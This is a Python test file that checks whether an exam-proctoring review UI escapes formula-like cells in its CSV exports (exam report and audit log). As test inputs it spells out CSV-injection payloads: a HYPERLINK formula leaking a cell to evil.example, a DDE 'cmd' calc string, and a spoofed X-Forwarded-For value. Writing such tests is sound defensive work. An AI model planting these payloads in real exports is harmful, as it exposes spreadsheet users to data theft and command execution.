"""CSV exports are opened in spreadsheets, so a cell that starts like a formula is neutralised with a leading
single quote (OWASP: CSV injection): the exam report's session lines and the audit trail, downloaded from the
live review UI by an integrity officer, with hostile values where a platform or an anonymous visitor put them."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from core.context import AppContext
from core.db import utcnow
from core.tables import Exam, ExamSession
from core.tenants import add_tenant
from core.vocabulary import Role
from proctor.local_server import BackgroundServer
from proctor.wiring import server_app
from review_ui.accounts import add_user, assign
from review_ui.reports import csv_document, spreadsheet_safe
from tests.review_ui.conftest import PASSWORD, Browser

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("cand-7", "cand-7"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


def test_a_csv_document_round_trips_with_every_hostile_cell_neutralised() -> None:
    text = csv_document(["a", "b", "c"], [[HYPERLINK, "x,=1", 7], ["@x", None, "-1"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b", "c"],
        ["'" + HYPERLINK, "x,=1", "7"],
        ["'@x", "", "'-1"],
    ]


@dataclass
class Exported:
    url: str
    context: AppContext
    officer: Browser
    admin: Browser
    session_id: str
    exam_id: str


@pytest.fixture
def exported(context: AppContext) -> Iterator[Exported]:
    with BackgroundServer(server_app(context)) as url:
        suffix = uuid.uuid4().hex[:8]
        with context.db() as db:
            tenant = add_tenant(db, f"csv-{suffix}", "csv platform")
            exam = Exam(tenant_id=tenant.id, external_id="exam-1")
            db.add(exam)
            db.flush()
            # The API takes only plain identifiers today; the export must not rely on that.
            session = ExamSession(
                tenant_id=tenant.id,
                exam_id=exam.id,
                candidate_id=HYPERLINK,
                attempt_id="@SUM(1+1)",
                started_at=utcnow(),
            )
            db.add(session)
            officer = add_user(db, f"officer-{suffix}", PASSWORD, Role.OFFICER)
            assign(db, officer, tenant.slug)
            add_user(db, f"admin-{suffix}", PASSWORD, Role.ADMIN)
            db.commit()
            ids = session.id, exam.id
        browsers = [Browser(url), Browser(url)]
        assert browsers[0].login(f"officer-{suffix}", PASSWORD).status_code == 303
        assert browsers[1].login(f"admin-{suffix}", PASSWORD).status_code == 303
        yield Exported(url, context, browsers[0], browsers[1], *ids)
        for browser in browsers:
            browser.close()


def test_the_exam_report_csv_neutralises_a_hostile_candidate_and_attempt_id(exported: Exported) -> None:
    response = exported.officer.get(f"/review/reports/{exported.exam_id}?format=csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    (line,) = list(csv.DictReader(io.StringIO(response.text)))
    assert line["session_id"] == exported.session_id
    assert line["candidate_id"] == "'" + HYPERLINK
    assert line["attempt_id"] == "'@SUM(1+1)"
    assert line["state"] == "created", "plain cells are unchanged"


def test_the_audit_csv_neutralises_what_an_anonymous_visitor_wrote_into_the_trail(exported: Exported) -> None:
    """A failed sign-in records its address; behind a proxy that passes X-Forwarded-For through, that is whatever
    the visitor sent."""
    visitor, nobody = Browser(exported.url), f"nobody-{uuid.uuid4().hex[:8]}"  # the database is shared: only ours
    visitor.page("/review/login")
    refused = visitor.post(
        "/review/login",
        data={"username": nobody, "password": "wrong password!", "csrf_token": visitor.csrf},
        headers={"X-Forwarded-For": "-2+3+cmd"},
    )
    assert refused.status_code == 401
    response = exported.admin.get("/review/audit?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    failed = [row for row in rows if row["action"] == "login_failed" and row["actor"] == f"user:{nobody}"]
    assert [row["ip"] for row in failed] == ["'-2+3+cmd"]
    assert all(not row[column].startswith(("=", "+", "-", "@")) for row in rows for column in row)
